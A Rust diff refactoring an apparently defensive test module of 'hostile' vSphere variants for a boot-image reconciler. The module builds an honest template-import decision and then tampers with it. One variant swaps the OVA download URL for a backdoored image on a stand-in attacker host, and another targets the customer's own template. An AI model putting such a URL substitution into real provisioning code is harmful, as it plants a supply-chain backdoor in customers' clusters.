@@ -327,11 +327,13 @@ mod hostile {
         None
     }
 
-    /// The vSphere variants: the shipped rule's decision, tampered with.
+    /// The vSphere variants: the import an honest guest would ask for (the
+    /// MachineSet's template when vCenter holds it in the workspace folder,
+    /// else the cluster's; the stream's OVA; the template's disk type),
+    /// tampered with.
     mod vsphere {
+        use mco_bootimage::Stream;
         use mco_bootimage::serde_json::{self, Value, json};
-        use mco_bootimage::vcenter::{TemplateImport, VcenterFacts, VcenterVm};
-        use mco_bootimage::{ClusterFacts, Platform, PlatformOutcome, Stream};
 
         use super::{Variant, wit};
 
@@ -346,56 +348,41 @@ mod hostile {
             let spec: Value = serde_json::from_str(ms.provider_spec.as_deref().unwrap_or("{}"))
                 .map_err(|e| e.to_string())?;
             let (_, arch) = super::view(&ms, &spec, &cluster)?;
-            let arch = arch.as_str();
-            let facts = ClusterFacts {
-                control_plane_arch: cluster.control_plane_arch,
-                multi_arch: cluster.multi_arch,
-                known_images: Default::default(),
-                vcenter: Some(VcenterFacts {
-                    infrastructure_name: vcenter.infrastructure_name,
-                    failure_domain: vcenter.failure_domain,
-                    install_disk_type: vcenter.install_disk_type,
-                    vms: vcenter
-                        .vms
-                        .into_iter()
-                        .map(|vm| VcenterVm {
-                            name: vm.name,
-                            folder: vm.folder,
-                            template: vm.template,
-                            release: vm.release,
-                            disk_type: vm.disk_type,
-                        })
-                        .collect(),
-                }),
+            let ova = stream.vmware_ova(&arch).map_err(|e| e.to_string())?;
+            let release = stream.vmware(&arch).map_err(|e| e.to_string())?.release.clone();
+            let field = |key: &str| spec["workspace"][key].as_str().unwrap_or_default().to_owned();
+            let folder = field("folder");
+            let named = spec["template"].as_str().unwrap_or_default().to_owned();
+            let managed = format!("{}-rhcos-{}", vcenter.infrastructure_name, vcenter.failure_domain);
+            let in_folder = |name: &str| {
+                vcenter
+                    .vms
+                    .iter()
+                    .find(|vm| vm.name == name && vm.folder.trim_end_matches('/') == folder)
             };
-            let outcome = mco_bootimage_vsphere::Vsphere.reconcile(stream, arch, &spec, &facts);
-            let (target, mut fragment, import) = match outcome {
-                PlatformOutcome::Update {
-                    target,
-                    fragment,
-                    import,
-                } => (target, Value::Object(fragment), import),
-                // The customer's template: no honest import to tamper with.
-                PlatformOutcome::Skip { .. } if variant == Variant::VsphereImportTemplate => {
-                    let name = spec["template"].as_str().unwrap_or_default().to_owned();
-                    let ova = stream.vmware_ova(arch).map_err(|e| e.to_string())?;
-                    let workspace = &spec["workspace"];
-                    let field = |key: &str| workspace[key].as_str().unwrap_or_default().to_owned();
-                    let import = TemplateImport {
-                        server: field("server"),
-                        datacenter: field("datacenter"),
-                        folder: field("folder"),
-                        template: name.clone(),
-                        release: stream.vmware(arch).map_err(|e| e.to_string())?.release.clone(),
-                        url: ova.location.clone(),
-                        sha256: ova.sha256.clone(),
-                        disk_type: None,
-                    };
-                    (name, json!({}), Some(import))
-                }
-                other => return Err(format!("no honest import to tamper with: {other:?}")),
+            // The customer's template (outside the folder) is what the
+            // `vsphere-import-template` variant goes for.
+            let own = variant == Variant::VsphereImportTemplate || in_folder(&named).is_some();
+            let template = if own { named.clone() } else { managed };
+            let disk_type = match in_folder(&template) {
+                Some(vm) => vm.disk_type.clone(),
+                None if own => None,
+                None => vcenter.install_disk_type.clone(),
             };
-            let mut import = import.ok_or("the honest decision imports nothing")?;
+            let mut fragment = json!({});
+            if template != named {
+                fragment["template"] = json!(template);
+            }
+            let mut import = wit::TemplateImport {
+                server: field("server"),
+                datacenter: field("datacenter"),
+                folder,
+                template: template.clone(),
+                release,
+                url: ova.location.clone(),
+                sha256: ova.sha256.clone(),
+                disk_type,
+            };
             match variant {
                 Variant::VsphereImportUrl => {
                     import.url = "https://ova.attacker.example/rhcos-backdoored.ova".into();
@@ -410,19 +397,10 @@ mod hostile {
                 false => json!({"spec": {"template": {"spec": {"providerSpec": {"value": fragment}}}}}),
             };
             Ok(wit::Decision::Patch(wit::Patch {
-                target,
+                target: template,
                 merge_patch: patch.to_string(),
                 user_data_secret: None,
-                template_import: Some(wit::TemplateImport {
-                    server: import.server,
-                    datacenter: import.datacenter,
-                    folder: import.folder,
-                    template: import.template,
-                    release: import.release,
-                    url: import.url,
-                    sha256: import.sha256,
-                    disk_type: import.disk_type,
-                }),
+                template_import: Some(import),
             }))
         }
     }
